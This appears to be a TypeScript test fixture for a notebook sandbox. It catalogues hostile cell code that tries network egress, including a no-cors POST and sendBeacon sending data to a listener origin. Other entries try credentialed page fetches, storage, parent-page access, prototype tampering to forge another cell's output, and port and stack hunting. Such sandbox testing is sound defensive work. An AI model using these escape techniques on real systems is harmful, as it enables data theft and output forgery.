/**
 * What a hostile notebook tries, as its author would write it in a cell. Each is the body of an async function that is
 * given `g`, the worker's global object (or a document's, see `realm`), and answers a text: `kept: …` or `reached: …`
 * when it got what it wanted.
 */
import type { Listener } from './listener.ts';

export interface Attack {
	readonly name: string;
	/**
	 * Where its control can be seen to succeed. Documents know ways out that workers don't have: a cell tries them
	 * too, and the control runs in the frame's own document.
	 */
	readonly realm: 'worker' | 'document';
	/** Its control needs the product's own origin. */
	readonly origin?: true;
	readonly body: (target: Listener, product: string) => string;
}

/** The attack as a cell's source. */
export const asCell = (body: string): string =>
	`(async (g) => {\n${body}\n})((0, eval)('globalThis'))`;

const worker = (name: string, body: Attack['body']): Attack => ({ name, realm: 'worker', body });
const inDocument = (name: string, body: Attack['body']): Attack => ({
	name,
	realm: 'document',
	body
});

/** Resolves when the object says that it ended, one way or the other. */
const END = `const end = (it, ...names) => new Promise((done) => {
	for (const name of names) it.addEventListener(name, (event) => done(event.type));
});\n`;

export const NETWORK: readonly Attack[] = [
	worker('fetch', ({ origin }) => `return (await g.fetch('${origin}/fetch')).text();`),
	worker(
		'fetch without waiting for an answer',
		({ origin }) =>
			`await g.fetch(new g.Request('${origin}/no-cors', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'data' }));`
	),
	worker(
		'XMLHttpRequest',
		({ origin }) =>
			`${END}const x = new g.XMLHttpRequest(); x.open('GET', '${origin}/xhr'); const over = end(x, 'loadend'); x.send(); await over;`
	),
	worker(
		'XMLHttpRequest, synchronous',
		({ origin }) =>
			`const x = new g.XMLHttpRequest(); x.open('GET', '${origin}/sync', false); x.send(); return x.responseText;`
	),
	worker(
		'WebSocket',
		({ port }) =>
			`${END}await end(new g.WebSocket('ws://127.0.0.1:${port}/socket'), 'open', 'error', 'close');`
	),
	worker(
		'EventSource',
		({ origin }) => `${END}await end(new g.EventSource('${origin}/a.events'), 'message', 'error');`
	),
	{
		...worker(
			'WebTransport',
			({ port }) => `await new g.WebTransport('https://127.0.0.1:${port}/').ready;`
		),
		origin: true
	},
	worker('importScripts', ({ origin }) => `g.importScripts('${origin}/scripts.js');`),
	worker('import() by eval', ({ origin }) => `await g.eval("import('${origin}/eval.js')");`),
	worker(
		'import() by Function',
		({ origin }) => `await g.Function("return import('${origin}/function.js')")();`
	),
	worker(
		'import() by the constructor of async functions',
		({ origin }) => `await (async () => {}).constructor("return import('${origin}/async.js')")();`
	),
	worker(
		'import() by a timer’s text',
		({ origin }) =>
			`await new Promise((done) => { g.done = done; g.setTimeout("import('${origin}/timer.js').then(done, done)", 0); });`
	),
	worker(
		'a worker inside the worker',
		({ origin }) =>
			`const text = "fetch('${origin}/nested').then(() => postMessage(1), () => postMessage(0))";
${END}await end(new g.Worker(g.URL.createObjectURL(new g.Blob([text]))), 'message', 'error');`
	),
	{
		...worker(
			'a module worker inside the worker',
			({ origin }) =>
				`const text = "import '${origin}/module.js'; postMessage(1)";
${END}await end(new g.Worker(g.URL.createObjectURL(new g.Blob([text], { type: 'text/javascript' })), { type: 'module' }), 'message', 'error');`
		),
		origin: true
	},
	worker(
		'a font',
		({ origin }) => `await new g.FontFace('a', "url(${origin}/font.woff2)").load();`
	),
	worker(
		'a font that is drawn with',
		({ origin }) =>
			`g.fonts.add(new g.FontFace('b', "url(${origin}/drawn.woff2)")); await g.fonts.load('10px b');
new g.OffscreenCanvas(9, 9).getContext('2d').font = '10px b';`
	),
	inDocument(
		'RTCPeerConnection',
		({ port }) =>
			`const peer = new g.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
peer.createDataChannel('a'); await peer.setLocalDescription(await peer.createOffer());`
	),
	inDocument('sendBeacon', ({ origin }) => `g.navigator.sendBeacon('${origin}/beacon', 'data');`),
	inDocument(
		'an image',
		({ origin }) =>
			`${END}const image = new g.Image(); image.src = '${origin}/image'; await end(image, 'load', 'error');`
	),
	inDocument(
		'a style sheet',
		({ origin }) =>
			`${END}const link = g.document.createElement('link'); link.rel = 'stylesheet'; link.href = '${origin}/a.css';
const over = end(link, 'load', 'error'); g.document.head.append(link); await over;`
	),
	inDocument(
		'a background',
		({ origin }) => `g.document.body.style.background = 'url(${origin}/background)';`
	),
	{
		...inDocument(
			'a form',
			({ origin }) =>
				`const form = g.document.createElement('form'); form.action = '${origin}/form'; g.document.body.append(form); form.submit();`
		),
		origin: true
	},
	inDocument('going elsewhere', ({ origin }) => `g.location.href = '${origin}/elsewhere';`),
	inDocument(
		'a frame inside the frame',
		({ origin }) =>
			`const frame = g.document.createElement('iframe'); frame.src = '${origin}/frame'; g.document.body.append(frame);`
	)
];

export const STORAGE: readonly Attack[] = [
	{
		...worker(
			'IndexedDB',
			() => `const db = await new Promise((done, failed) => {
	const opening = g.indexedDB.open('attack', 1);
	opening.onupgradeneeded = () => opening.result.createObjectStore('s').put('db', 'k');
	opening.onsuccess = () => done(opening.result);
	opening.onerror = () => failed(opening.error);
});
const got = db.transaction('s').objectStore('s').get('k');
return await new Promise((done) => { got.onsuccess = () => done('kept: ' + got.result); });`
		),
		origin: true
	},
	{
		...worker(
			'the cache',
			(_, product) => `const cache = await g.caches.open('attack');
await cache.put('${product}/a', new g.Response('cache')); return 'kept: ' + await (await cache.match('${product}/a')).text();`
		),
		origin: true
	},
	{
		...worker(
			'the private file system',
			() => `const root = await g.navigator.storage.getDirectory();
const file = await root.getFileHandle('a', { create: true }); return 'kept: ' + file.name;`
		),
		origin: true
	},
	{
		...worker(
			'a lock that pages share',
			() => `return 'kept: ' + await g.navigator.locks.request('a', (lock) => lock.name);`
		),
		origin: true
	},
	{
		...inDocument(
			'localStorage',
			() => `g.localStorage.setItem('a', 'local'); return 'kept: ' + g.localStorage.getItem('a');`
		),
		origin: true
	},
	{
		...inDocument(
			'cookies',
			() =>
				`g.document.cookie = 'attack=1'; if (g.document.cookie.includes('attack=1')) return 'kept: cookie';`
		),
		origin: true
	}
];

/** The person’s cookie `theme=dark` shows in every page that the server makes for them. */
export const AS_THE_PERSON: Attack = {
	...worker(
		'a page of the product, as the person',
		(_, product) =>
			`const html = await (await g.fetch('${product}/aide', { credentials: 'include' })).text(); if (/theme="dark"/.test(html)) return 'reached: ' + html.length;`
	),
	origin: true
};

/** Wants the page that holds the frame. Its control is seen in the page. */
export const PARENT: readonly Attack[] = [
	{
		...inDocument(
			'the page around it',
			() =>
				`for (const name of ['parent', 'top', 'opener', 'window', 'frames']) if (g[name]) g[name].document.title = 'attacked';`
		),
		origin: true
	},
	{
		...inDocument('the page’s address', () => `g.top.location.href = '/rapports';`),
		origin: true
	},
	{
		...inDocument(
			'a new window',
			() => `if (!g.open('about:blank')) throw new Error('no window');`
		),
		origin: true
	}
];

/** Wants the conversation between worker and host, or the engine’s own objects. */
export const ENGINE: readonly Attack[] = [
	...['Array', 'Map', 'Set', 'WeakMap', 'Promise'].map((type) =>
		worker(
			`the methods of ${type}`,
			() => `const { prototype } = g.${type};
for (const name of Object.getOwnPropertyNames(prototype)) {
	if (name === 'constructor' || typeof prototype[name] !== 'function') continue;
	const before = prototype[name];
	try { prototype[name] = function (...args) { return before.apply(this, args); }; } catch {}
	if (prototype[name] !== before) return 'reached: ' + name;
}
return 'as before';`
		)
	),
	worker(
		'Reflect.apply',
		() => `const { apply } = g.Reflect;
try { g.Reflect.apply = (...args) => apply(...args); } catch {}
return g.Reflect.apply === apply ? 'as before' : 'reached';`
	),
	worker(
		'the getter of what a message holds',
		() => `try {
	Object.defineProperty(g.MessageEvent.prototype, 'data', { get: () => null });
	return 'reached';
} catch { return 'as before'; }`
	),
	worker(
		'the worker’s own way of hearing',
		() => `let heard = '';
g.addEventListener('message', (event) => { heard += event.data; });
g.dispatchEvent(new g.MessageEvent('message', { data: 'forged' }));
return heard ? 'reached: ' + heard : 'as before';`
	),
	worker(
		'onmessage',
		() => `let heard = '';
g.onmessage = (event) => { heard += event.data; };
g.EventTarget.prototype.dispatchEvent.call(g, new g.MessageEvent('message', { data: 'forged' }));
return heard ? 'reached: ' + heard : 'as before';`
	),
	worker(
		'a word to the frame',
		() => `g.postMessage({ type: 'frame-ready', opaque: true, worker: true }); return 'reached';`
	),
	worker('another channel', () => `return 'reached: ' + new g.MessageChannel().port1;`),
	worker('the address of the product', () => `return 'reached: ' + g.location.href;`)
];

/** Shows what it likes in place of another cell’s result, by way of the engine’s own lists. */
export const FORGE = `let forged = 0;
const { push } = Array.prototype;
const lie = { kind: 'value', value: { type: 'string', text: 'forged', number: null, size: null, handle: null, entries: [] }, lineage: null };
try {
	Array.prototype.push = function (...items) {
		for (const item of items)
			if (item?.id === 'victim' && 'outputs' in item) {
				Object.defineProperty(item, 'outputs', { get: () => [lie], set() {} });
				forged++;
			}
		return push.apply(this, items);
	};
} catch {}
return forged;`;

/** Gives every object the fields of messages, so that a reader that looks no closer takes them for a cell’s own. */
export const POLLUTE = `for (const [name, value] of Object.entries({
	cell: 'attack', run: 9, outputs: [], error: { code: 'memory' }, blockedBy: 'attack', ms: 1, state: 'stopped',
	text: 'forged', handle: 1, related: ['attack'], lineage: { sources: [], steps: [] }, value: 'forged', ok: false
})) try { Object.prototype[name] = value; } catch {}
return 'polluted: ' + ({}).text;`;

/** Looks at all that can be reached from the global object and the built-ins for a port to speak through. */
export const WALK = `const seen = new Set();
const found = [];
const line = [g, aq, op, Inputs, Plot, Generators, Promises, Mutable, md, display, view, FileAttachment, invalidation];
const see = (it) => {
	if ((typeof it === 'object' && it !== null) || typeof it === 'function') if (!seen.has(it)) { seen.add(it); line.push(it); }
};
while (line.length > 0) {
	const it = line.pop();
	if (Object.prototype.toString.call(it) === '[object MessagePort]') found.push(it);
	see(Object.getPrototypeOf(it));
	for (const key of Reflect.ownKeys(it)) {
		const { value, get, set } = Object.getOwnPropertyDescriptor(it, key);
		see(value); see(get); see(set);
		if (get) try { see(it[key]); } catch {}
	}
	if (it instanceof Map) for (const [key, value] of it) { see(key); see(value); }
	if (it instanceof Set) for (const value of it) see(value);
}
return display(seen.size > 1000 && found.length === 0 ? 'nothing' : 'reached: ' + found.length);`;

/** Looks up the stack, from a callback that the engine’s libraries call, for functions that are not the cell’s own. */
export const STACK = `const names = [];
g.Error.prepareStackTrace = (_, sites) => sites;
g.Error.stackTraceLimit = 100;
const look = g.Function('names', \`return function look() {
	for (let f = look.caller, n = 0; f && n < 50; f = f.caller, n++) names.push('caller ' + f.name);
	for (const site of new Error().stack) {
		const f = site.getFunction();
		if (f && f !== look) names.push('site ' + f.name);
	}
	return 1;
}\`)(names);
look();
md({ raw: ['', ''] }, { toString: look });
Plot.dot([1, 2], { x: look, y: look }).plot();
aq.table({ a: [1] }).derive({ b: aq.escape(look) });
[...Generators.range?.(0) ?? []];
const engine = names.splice(0);
// The same look from under a function of the cell’s own: what the engine would show if it were written loosely.
g.Function('look', 'return (function mine() { return look(); })()')(look);
return 'engine: ' + [...new Set(engine)] + '; own: ' + names.includes('caller mine');`;
